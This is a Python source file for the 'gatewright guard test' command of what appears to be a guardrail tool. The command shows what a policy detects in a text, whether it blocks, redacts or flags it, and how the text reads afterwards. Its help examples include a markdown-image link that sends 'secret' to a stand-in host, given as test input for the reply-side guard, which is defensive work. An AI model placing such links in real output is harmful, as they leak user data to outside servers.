"""``gatewright guard test``."""

import sys
from pathlib import Path
from typing import get_args

import click
from rich.console import Console

from guardrails.compiling import Catalogue
from guardrails.evaluation.examiner import Examined, Judged
from guardrails.evaluation.row import Row
from guardrails.guard import Side
from guardrails.passage import Role
from operations.cli.guard_options import (
    REFUSED,
    examiner_of,
    policy_named,
    policy_option,
    routing_option,
    side_option,
    with_catalogue,
)
from operations.cli.marking import show_marked, visible
from operations.cli.output import as_json_option, columns, fail, print_json

_SHOWN_CHARACTERS = 20_000
_SHOWN_OF_A_FINDING = 40


@click.command(epilog="""\b
Examples:
  gatewright guard test "write to jo@example.org"
  gatewright guard test --file letter.txt --policy strict
  gatewright guard test --side reply "![x](https://example.net/?d=secret)"
  gatewright guard test --role tool --file - < page.txt
\b
Exit status: 0 the text passes, as it is, flagged or redacted; 3 it is blocked; 1 the policy or the file cannot be used;
2 wrong usage.
""")
@click.argument("text", required=False)
@click.option("--file", type=click.Path(path_type=Path, allow_dash=True), help="A file with the text; - reads it from "
              "standard input, as - in place of TEXT does.")
@policy_option
@routing_option
@side_option
@click.option("--role", default="user", show_default=True, type=click.Choice(get_args(Role)),
              help="Who says it, in a prompt.")
@as_json_option
@with_catalogue
def test(catalogue: Catalogue, text: str | None, file: Path | None, policy: str | None, routing: Path, side: Side,
         role: Role, as_json: bool) -> None:
    """Shows what a policy finds in a text, what it does about it, and how the text reads then."""
    if (text is None) == (file is None):
        raise click.UsageError("Give TEXT or --file FILE, - for standard input.")
    whole = text if text is not None and text != "-" else _text_of(file, as_json)
    named = policy_named(policy, routing, as_json)
    examiner = examiner_of(named, side, catalogue, as_json)
    examined = examiner.examine(Row(1, whole, False, None, role, ""))
    judged = examiner.judge(whole, role)
    blocked = judged.verdict.blocking is not None or examined.refused
    answer = _answer(examined, judged, blocked, named.name, side)
    if as_json:
        print_json(answer)
    else:
        _tell(examined, judged, blocked, f"policy {named.name}, {side}")
    raise SystemExit(REFUSED if blocked else 0)


def _text_of(file: Path | None, as_json: bool) -> str:
    try:
        data: bytes = sys.stdin.buffer.read() if file is None or str(file) == "-" else file.read_bytes()
        return data.decode()
    except (OSError, UnicodeDecodeError) as error:
        fail(f"{'standard input' if file is None else file} cannot be read as UTF-8: {error}", as_json,
             code="text_unreadable")


def _answer(examined: Examined, judged: Judged, blocked: bool, policy: str, side: Side) -> dict[str, object]:
    return {"policy": policy, "side": side, "blocked": blocked, "action": "block" if blocked else examined.action,
            "findings": [{**finding._asdict(), "action": action} for finding, action in examined.seen],
            "text": None if blocked and side == "prompt" else judged.text,
            "failures": [failure._asdict() for failure in examined.failures],
            "microseconds": examined.nanoseconds / 1000}


def _tell(examined: Examined, judged: Judged, blocked: bool, by: str) -> None:
    console, text = Console(highlight=False, markup=False), examined.row.text
    if len(text) <= _SHOWN_CHARACTERS:
        show_marked(console, text, examined.seen)
    else:
        click.echo(f"(a text of {len(text):,} characters)")
    if examined.seen:
        click.echo("\n" + columns(("DETECTOR", "LABEL", "SCORE", "SPAN", "ACTION", "FOUND"), _rows(examined)))
    for failure in examined.failures:
        click.echo(f"the guard {failure.guard} could not decide: {failure.reason}", err=True)
    if judged.text != text and not blocked and len(text) <= _SHOWN_CHARACTERS:
        click.echo(f"\nIt reads then:\n{visible(judged.text)}")
    click.echo(f"\n{_verdict(examined, judged, blocked)} ({by}, {examined.nanoseconds / 1000:.0f} µs)")


def _rows(examined: Examined) -> list[tuple[object, ...]]:
    text = examined.row.text
    return [(finding.detector, finding.label, f"{finding.score:.2f}", f"{finding.start}-{finding.end}",
             action or "none: under the threshold", _short(visible(text[finding.start : finding.end])))
            for finding, action in examined.seen]


def _short(found: str) -> str:
    line = found.replace("\n", "\\n")
    return line if len(line) <= _SHOWN_OF_A_FINDING else line[: _SHOWN_OF_A_FINDING - 3] + "..."


def _verdict(examined: Examined, judged: Judged, blocked: bool) -> str:
    if blocked:
        by = judged.verdict.blocking
        return f"blocked by {by.finding.detector}: {by.finding.label}" if by else "blocked: a guard could not decide"
    words = {"redact": "passed, redacted", "flag": "passed, flagged", "shadow": "passed; counted in shadow"}
    return words.get(examined.action or "", "passed")
